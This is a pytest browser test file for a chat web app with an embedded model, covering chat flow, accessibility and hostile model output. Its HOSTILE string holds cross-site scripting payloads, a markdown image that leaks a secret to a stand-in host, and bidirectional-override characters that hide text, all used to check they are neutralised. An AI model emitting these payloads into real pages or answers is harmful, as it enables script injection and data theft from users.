"""The page in a browser, with the embedded model: a chat, hostile answers, and accessibility."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from .conftest import Open
from .scripted import CHAT, answered, answers, last, say

FULL = os.environ.get("TRAMONTANE_FULL") == "1"
HOSTILE = r"""<script>window.hit = 1</script><img src=x onerror="window.hit = 2">
<iframe srcdoc="<script>parent.hit=3</script>"></iframe> <svg onload="window.hit=4"></svg>

[click](javascript:window.hit=5) [data](data:text/html,<script>window.hit=6</script>)
![leak](https://elsewhere.example/?secret=1) ![x" onerror="window.hit=7](y)
<a href="javascript:window.hit=8">a</a> <style>body { display: none }</style>
<form action="https://elsewhere.example"><input name=q></form>
<math><mtext><style><img src=x onerror=window.hit=9>

$\href{javascript:window.hit=10}{x} \includegraphics{https://elsewhere.example/x.png}$

```html
<img src=x onerror="window.hit = 11">
```

```python" onmouseover="window.hit=12
access = "user" # ‮ ⁦ admin
```

Right to left: ‮ txet desrever ⁧ and no end. **Still bold?
"""
SIZES = {
    "desktop": {"viewport": {"width": 1280, "height": 800}},
    "phone": {"viewport": {"width": 390, "height": 844}, "has_touch": True, "color_scheme": "dark"},
}
AXE = """axe.run(document, {resultTypes: ['violations']}).then(({violations}) => violations.map(
    one => `${one.id}: ${one.help}: ${one.nodes.map(node => node.html).join(' | ')}`))"""
ALL = "# One\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n- [x] done\n\n$x^2$\n\n```js\nlet x = 1;\n```\n"
CALLS = [{"name": "f", "arguments": "{}", "result": "1"}]


def axe(page: Any) -> list[str]:
    """What axe-core finds in a page as it is now."""
    package = pytest.importorskip("axe_core_python", reason="axe-core-python is missing")
    page.wait_for_timeout(250)  # colours in the middle of a transition have no contrast
    page.evaluate(Path(package.__file__).with_name("axe.min.js").read_text("utf-8"))
    found: list[str] = page.evaluate(AXE)
    return found


def test_a_first_chat_with_the_embedded_model(open_page: Open) -> None:
    page = open_page()
    assert page.get_by_role("heading", name="What shall we talk about?").is_visible()
    say(page, "Tell me a story")
    answered(page)
    assert len(last(page).locator(".prose").inner_text()) > 40
    assert "tokens/s" in last(page).inner_text()
    assert "of 512 tokens of context" in page.locator(".status-line").inner_text()
    page.reload()
    answered(page)
    assert page.title() == "Tell me a story – Tramontane"
    assert page.locator(".chat-row").count() == 1


def test_an_answer_is_stopped(open_page: Open) -> None:
    page = open_page()
    held: list[Any] = []
    page.route(CHAT, lambda route: held.append(route))
    say(page, "Count")
    page.get_by_role("button", name="Stop").click()
    page.get_by_text("Stopped.").wait_for()
    assert page.get_by_role("button", name="Send").is_visible()
    held[0].abort()


def test_hostile_answers_do_nothing(open_page: Open) -> None:
    page = open_page()
    answers(page, HOSTILE)
    say(page, "Attack")
    answered(page)
    page.wait_for_timeout(200)
    assert page.evaluate("window.hit") is None
    inside = last(page).locator(".prose")
    assert inside.locator("script, img, iframe, svg:not(.icon), style, form, object").count() == 0
    links = inside.locator("a").evaluate_all("all => all.map(one => one.href)")
    assert links == ["https://elsewhere.example/?secret=1"]  # which nobody follows unasked
    assert inside.get_by_text("<script>window.hit = 1</script>").is_visible()
    assert inside.locator(".hidden-character").all_inner_texts()[:2] == ["U+202E", "U+2066"]
    assert page.locator("body").is_visible()


@pytest.mark.parametrize("size", SIZES if FULL else ["phone"])
def test_axe_finds_nothing(open_page: Open, size: str) -> None:
    page = open_page(**SIZES[size])
    found = axe(page)
    answers(page, ALL, reasoning_content="So.", server_tool_calls=CALLS)
    say(page, "All of it")
    answered(page)
    page.locator("summary").first.click()
    found += axe(page)
    page.keyboard.press("Control+,")
    found += axe(page)
    assert not found, "\n".join(found)


@pytest.mark.skipif(not FULL, reason="TRAMONTANE_FULL is not 1")
def test_patterns_that_parsers_stumble_over_are_drawn(open_page: Open) -> None:
    page = open_page()
    patterns = [
        "*a ",
        "[a](",
        "![",
        "`",
        "> ",
        "- ",
        "|",
        "$a",
        "<a ",
        "**_",
        "\\(",
        "[^1]: ",
        "~~a",
    ]
    for pattern in patterns:
        answers(page, (pattern * 15_000)[:11_000] + "\n\nend")
        page.get_by_role("button", name="New chat").first.click()
        say(page, f"Repeat {pattern}")
        answered(page)  # within the half minute that this waits
        assert "end" in last(page).inner_text()
